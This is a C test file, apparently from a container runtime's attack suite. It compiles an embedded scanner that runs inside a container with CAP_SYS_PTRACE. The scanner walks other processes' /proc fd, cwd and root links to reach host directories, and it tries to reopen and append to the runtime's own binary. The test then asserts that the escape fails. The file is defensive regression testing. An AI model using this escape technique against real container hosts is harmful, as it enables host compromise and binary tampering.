/* The attacks suite (attacks.c): a container with CAP_SYS_PTRACE and the
 * host fds of `hull exec`'s process. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attacks.h"

/* 3. A container with CAP_SYS_PTRACE: until it execs, a process of `hull
 * exec` runs hull's binary in the container's pid namespace with hull's
 * host fds open, and dumpability does not stop CAP_SYS_PTRACE in the
 * initial user namespace. The container's init scans the fds in
 * /proc/PID/fd of every other process, and for each directory climbs
 * ../../.. to look for a file only the host has (writing a file beside it
 * if it gets there); it climbs from /proc/PID/cwd and /proc/PID/root too.
 * Where /proc/PID/exe or an fd is hull's binary (its device and inode), it
 * keeps an O_PATH fd of it and keeps trying to reopen that for writing,
 * once more when the test says stop (no hull process runs then), and
 * appends a marker if it can. The test runs `hull exec ID true` meanwhile;
 * hull here is a copy in the bundle, run by its path, whose bytes the test
 * compares. */
static const char scanner_src[] =
	"#define _GNU_SOURCE\n#include <dirent.h>\n#include <errno.h>\n#include <fcntl.h>\n#include <poll.h>\n#include <stdio.h>\n"
	"#include <stdlib.h>\n#include <string.h>\n#include <sys/stat.h>\n#include <time.h>\n"
	"#include <unistd.h>\n"
	"#define MAXP 65536\n"
	"static unsigned char seen[MAXP], insp[MAXP], win[MAXP];\n"
	"static long n_seen, n_insp, n_win, n_dirs, n_esc, n_wrote, n_hull, n_tries, n_txtbsy, last_err;\n"
	"static int kept[8], n_kept, pwned; static char first[1024], hull_first[512];\n"
	"static char up[64], hostdir[512]; static dev_t hdev; static ino_t hino;\n"
	"static void escape(const char *link, const char *what, int pid) {\n"
	"  char target[512] = \"\", p[4096]; ssize_t n = readlink(link, target, sizeof(target) - 1);\n"
	"  if (n > 0) target[n] = 0;\n"
	"  if (!n_esc++) snprintf(first, sizeof(first), \"%s -> %s\", link, target);\n"
	"  if (n_wrote >= 20) return;\n"
	"  snprintf(p, sizeof(p), \"%s/%s%s/escaped-%d-%s\", link, up, hostdir, pid, what);\n"
	"  int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);\n"
	"  if (fd >= 0) { n_wrote++; dprintf(fd, \"%s\\n\", target); close(fd); }\n"
	"}\n"
	"static int host_there(const char *link) {\n"
	"  char p[4096]; struct stat st; snprintf(p, sizeof(p), \"%s/%s%s/host-marker\", link, up, hostdir);\n"
	"  return stat(p, &st) == 0;\n"
	"}\n"
	/* hull's binary through link: keep a handle for later writes. */
	"static void hull_hit(const char *link) {\n"
	"  if (!n_hull++) snprintf(hull_first, sizeof(hull_first), \"%s\", link);\n"
	"  if (n_kept == 8) return;\n"
	"  int fd = open(link, O_PATH | O_CLOEXEC); struct stat st;\n"
	"  if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == hdev && st.st_ino == hino) kept[n_kept++] = fd;\n"
	"  else if (fd >= 0) close(fd);\n"
	"}\n"
	"static void try_write(void) {\n"
	"  for (int i = 0; i < n_kept && !pwned; i++) {\n"
	"    char p[64]; snprintf(p, sizeof(p), \"/proc/self/fd/%d\", kept[i]); n_tries++;\n"
	"    int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);\n"
	"    if (fd < 0) { last_err = errno; n_txtbsy += errno == ETXTBSY; continue; }\n"
	"    static const char mark[] = \"\\nHULL-ATTACK-PTRACE\\n\";\n"
	"    if (write(fd, mark, sizeof(mark) - 1) == sizeof(mark) - 1) pwned = 1; else last_err = errno;\n"
	"    close(fd);\n"
	"  }\n"
	"}\n"
	"static void scan(int pid) {\n"
	"  char p[128], q[512]; struct stat st;\n"
	"  if (!seen[pid]) { seen[pid] = 1; n_seen++; }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/comm\", pid);\n"
	"  int c = open(p, O_RDONLY | O_CLOEXEC);\n"
	"  if (c >= 0) { char comm[32] = \"\"; ssize_t n = read(c, comm, sizeof(comm) - 1); close(c);"
	" if (n >= 5 && !memcmp(comm, \"hull\\n\", 5) && !win[pid]) { win[pid] = 1; n_win++; } }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/exe\", pid);\n"
	"  if (stat(p, &st) == 0) { if (!insp[pid]) { insp[pid] = 1; n_insp++; }"
	" if (st.st_dev == hdev && st.st_ino == hino) hull_hit(p); }\n"
	"  static const char *const links[] = { \"cwd\", \"root\" };\n"
	"  for (int i = 0; i < 2; i++) { snprintf(p, sizeof(p), \"/proc/%d/%s\", pid, links[i]);"
	" if (host_there(p)) escape(p, links[i], pid); }\n"
	"  snprintf(p, sizeof(p), \"/proc/%d/fd\", pid);\n"
	"  DIR *d = opendir(p); if (!d) return;\n"
	"  if (!insp[pid]) { insp[pid] = 1; n_insp++; }\n"
	"  for (struct dirent *e; (e = readdir(d));) {\n"
	"    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;\n"
	"    snprintf(q, sizeof(q), \"/proc/%d/fd/%s\", pid, e->d_name);\n"
	"    if (stat(q, &st) < 0) continue;\n"
	"    if (st.st_dev == hdev && st.st_ino == hino) hull_hit(q);\n"
	"    if (!S_ISDIR(st.st_mode)) continue;\n"
	"    n_dirs++;\n"
	"    if (host_there(q)) { char w[32]; snprintf(w, sizeof(w), \"fd%s\", e->d_name); escape(q, w, pid); }\n"
	"  }\n"
	"  closedir(d);\n"
	"}\n"
	"int main(int argc, char **argv) {\n"
	"  if (argc != 5) return 2;\n"
	"  snprintf(hostdir, sizeof(hostdir), \"%s\", argv[1]);\n"
	"  hdev = (dev_t)strtoull(argv[2], NULL, 10); hino = (ino_t)strtoull(argv[3], NULL, 10);\n"
	"  for (int i = 0; i < 16; i++) strcat(up, \"../\");\n"
	"  int stop = open(\"/mnt/stop\", O_RDONLY | O_NONBLOCK | O_CLOEXEC);\n"
	"  FILE *f = fopen(\"/mnt/ready\", \"w\"); if (!f) return 3;\n"
	"  fputs(stop >= 0 ? \"scanning\\n\" : \"no /mnt/stop\\n\", f); fclose(f);\n"
	"  struct timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts); time_t end = ts.tv_sec + atoi(argv[4]);\n"
	"  long rounds = 0; int self = getpid(), stopped = 0;\n"
	"  for (;;) {\n"
	"    struct pollfd p = { .fd = stop, .events = POLLIN };\n"
	"    if (poll(&p, 1, 0) == 1 && (p.revents & POLLIN)) { stopped = 1; break; }\n"
	"    if (!(++rounds & 63)) { clock_gettime(CLOCK_MONOTONIC, &ts); if (ts.tv_sec > end) break; }\n"
	"    DIR *d = opendir(\"/proc\"); if (!d) return 4;\n"
	"    for (struct dirent *e; (e = readdir(d));) {\n"
	"      int pid = atoi(e->d_name);\n"
	"      if (pid > 0 && pid != self && pid < MAXP) scan(pid);\n"
	"    }\n"
	"    closedir(d);\n"
	"    try_write();\n"
	"  }\n"
	"  try_write();\n"
	"  f = fopen(\"/mnt/report\", \"w\"); if (!f) return 5;\n"
	"  fprintf(f, \"rounds=%ld stopped=%d seen=%ld inspected=%ld in_hull=%ld dirfds=%ld escapes=%ld wrote=%ld\"\n"
	"    \" hull=%ld hull_fds=%d write_tries=%ld etxtbsy=%ld last_errno=%ld pwned=%d first=%s hull_first=%s\\n\",\n"
	"    rounds, stopped, n_seen, n_insp, n_win, n_dirs, n_esc, n_wrote, n_hull, n_kept, n_tries, n_txtbsy,\n"
	"    last_err, pwned, first, hull_first);\n"
	"  fclose(f);\n"
	"  return 0;\n"
	"}\n";

static void add_cap(json_t *caps, const char *set, const char *cap)
{
	json_t *a = json_object_get(caps, set);
	if (!a)
		json_object_set_new(caps, set, a = json_array());
	json_array_append_new(a, json_string(cap));
}

/* The state of ptrace_exec_fds: the copy of hull the test runs, its
 * bytes and identity, the host dir, what the execs did. */
struct ptrace_run {
	char hostdir[128], dev[32], ino[32], copy[200], real_hull[4096];
	char *before;
	size_t before_len;
	unsigned execs, failed;
	char fail[512];
};

/* hull copied into the bundle (its bytes, device and inode kept), the
 * host dir with its marker, the scanner compiled into the rootfs, and
 * CAP_SYS_PTRACE in every set. */
static void ptrace_prepare(struct ht *t, struct ptrace_run *pr)
{
	static const char *const flags[] = { "-static", "-O2", "-w", NULL };
	char path[4300];
	snprintf(pr->real_hull, sizeof(pr->real_hull), "%s", getenv("HULL"));
	snprintf(pr->copy, sizeof(pr->copy), "%s/bin", t->bundle);
	ck_assert_int_eq(mkdir(pr->copy, 0755), 0);
	snprintf(pr->copy, sizeof(pr->copy), "%s/bin/hull", t->bundle);
	atk_copy_file(pr->real_hull, pr->copy, 0755);
	pr->before = atk_slurp(pr->copy, &pr->before_len);
	ck_assert_ptr_nonnull(pr->before);
	struct stat st;
	ck_assert_int_eq(stat(pr->copy, &st), 0);
	snprintf(pr->dev, sizeof(pr->dev), "%llu", (unsigned long long)st.st_dev);
	snprintf(pr->ino, sizeof(pr->ino), "%llu", (unsigned long long)st.st_ino);
	snprintf(pr->hostdir, sizeof(pr->hostdir), "%s/host", t->bundle);
	ck_assert_int_eq(mkdir(pr->hostdir, 0755), 0);
	snprintf(path, sizeof(path), "%s/host-marker", pr->hostdir);
	atk_put_file(path, "host\n", 0644);
	snprintf(path, sizeof(path), "%s/atk-scan", t->rootfs);
	atk_compile(scanner_src, path, flags);
	json_t *caps = json_object_get(atk_process(t), "capabilities");
	const char *sets[] = { "bounding", "effective", "permitted", "inheritable", "ambient" };
	for (size_t i = 0; i < 5; i++)
		add_cap(caps, sets[i], "CAP_SYS_PTRACE");
}

/* The scanner's container, run by the copy; returns the report fifo's
 * reading end once the scanner says it scans. */
static int ptrace_start(struct ht *t, struct ptrace_run *pr)
{
	struct ht_result r;
	ht_add_sync(t);
	atk_make_fifo(t, "stop");
	atk_make_fifo(t, "report");
	ht_args(t, "/atk-scan", pr->hostdir + 1, pr->dev, pr->ino, "40", NULL);
	int report_fd = atk_fifo_reader(t, "report");
	setenv("HULL", pr->copy, 1);
	ht_write_config(t);
	ht_hull(t, &r, NULL, "run", "--detach", "--bundle", t->bundle, t->id, NULL);
	setenv("HULL", pr->real_hull, 1);
	ht_assert_status(&r, 0);
	ht_result_free(&r);
	char *ready = ht_wait_ready(t);
	ck_assert_str_eq(ready, "scanning\n");
	free(ready);
	return report_fd;
}

/* `hull exec ID true` with the copy, 200 times or 20 s. */
static void ptrace_execs(struct ht *t, struct ptrace_run *pr)
{
	struct ht_result r;
	double end = atk_now_s() + 20;
	setenv("HULL", pr->copy, 1);
	while (pr->execs < 200 && atk_now_s() < end) {
		ht_hull(t, &r, NULL, "exec", t->id, "true", NULL);
		pr->execs++;
		if (r.status != 0 && !pr->failed++)
			snprintf(pr->fail, sizeof(pr->fail), "exit %d: %s", r.status, r.err);
		ht_result_free(&r);
	}
	setenv("HULL", pr->real_hull, 1);
}

START_TEST(ptrace_exec_fds)
{
	struct ht t;
	struct ptrace_run pr = { 0 };
	double t0 = atk_now_s();
	ht_begin(&t, true);
	ptrace_prepare(&t, &pr);
	int report_fd = ptrace_start(&t, &pr);
	ptrace_execs(&t, &pr);
	/* No hull process runs the copy now: the scanner's last try. */
	bool told = atk_fifo_tell(&t, "stop", "stop\n");
	char *report = atk_fifo_read_all(report_fd, 10000);
	unsigned on_host = atk_files_named(pr.hostdir, "escaped-");
	size_t after_len;
	char *after = atk_slurp(pr.copy, &after_len);
	bool same = after && after_len == pr.before_len && !memcmp(pr.before, after, pr.before_len);
	fprintf(stderr, "attacks: ptrace_exec_fds: %u execs (%u failed%s%s), %u files on the host, copy %s, "
		"scanner: %s%.1f s\n", pr.execs, pr.failed, *pr.fail ? ", first: " : "", pr.fail, on_host,
		same ? "unchanged" : "CHANGED", report ? report : "(no report)\n", atk_now_s() - t0);
	atk_delete_and_finish(&t);
	ck_assert_msg(told && report, "the scanner did not report (stop %s)", told ? "sent" : "not sent");
	long seen = atk_field(report, "seen"), insp = atk_field(report, "inspected"), esc = atk_field(report, "escapes");
	ck_assert_msg(esc == 0 && on_host == 0 && same && atk_field(report, "pwned") == 0,
		      "a container with CAP_SYS_PTRACE reached the host through `hull exec`'s process "
		      "(%u files written on the host, hull's binary %s, %u execs): %s", on_host,
		      same ? "unchanged" : "CHANGED", pr.execs, report);
	/* Not vacuous: it looked into the processes exec made, and was
	 * still looking when they were done. */
	ck_assert_msg(insp >= 20 && seen >= insp && atk_field(report, "stopped") == 1,
		      "the scanner inspected too few exec processes (%u execs): %s", pr.execs, report);
	free(report);
	free(pr.before);
	free(after);
}
END_TEST
HULL_TESTS(attacks_ptrace)
{
	tcase_add_test(tc, ptrace_exec_fds);
}
